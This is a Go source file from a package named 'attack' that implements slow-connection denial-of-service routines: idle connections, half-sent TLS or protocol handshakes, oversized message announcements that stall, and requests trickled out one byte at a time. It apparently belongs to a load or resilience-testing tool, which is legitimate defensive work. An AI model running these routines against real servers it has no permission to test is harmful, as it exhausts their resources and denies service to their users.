package attack

import (
	"net"
	"time"
)

// clientHello is the beginning of a TLS handshake (RFC 8446, section 4.1.2) without its
// second half.
var clientHello = "\x16\x03\x01\x02\x00" + "\x01\x00\x01\xfc\x03\x03" + string(make([]byte, 245))

// announcing is how many bytes an announcement has: the length of a message, and its
// beginning.
const announcing = 400

// largest is the largest size of a message's data at the default settings.
const largest = 4 << 20

// announce announces a message of the largest size on each connection, and sends no
// more than its beginning.
func announce(a *assault) error {
	b := a.wire.first(largest)[:announcing]
	return a.each(a.greeted, func(_ int, conn net.Conn) { conn.Write(b) })
}

// silence opens connections and sends nothing.
func silence(a *assault) error { return a.each(a.connect, func(int, net.Conn) {}) }

// half sends the first half of a handshake on each connection.
func half(a *assault) error {
	b := []byte(clientHello)
	if !a.tls {
		b = []byte(a.wire.hello)
		if a.wire.first != nil {
			b = a.wire.start(64 << 10)
		}
		b = b[:a.wire.half]
	}
	return a.each(a.connect, func(_ int, conn net.Conn) { conn.Write(b) })
}

// trickle sends a request on each connection whose second half comes byte by byte.
func trickle(a *assault) error {
	b := a.wire.first(16 << 10)
	middle := len(b) / 2
	return a.each(a.greeted, func(_ int, conn net.Conn) {
		conn.Write(b[:middle])
		a.running.Go(func() {
			for i := middle; i < len(b); i++ {
				select {
				case <-a.done:
					return
				case <-time.After(10 * time.Millisecond):
				}
				if _, err := conn.Write(b[i : i+1]); err != nil {
					return
				}
			}
		})
	})
}
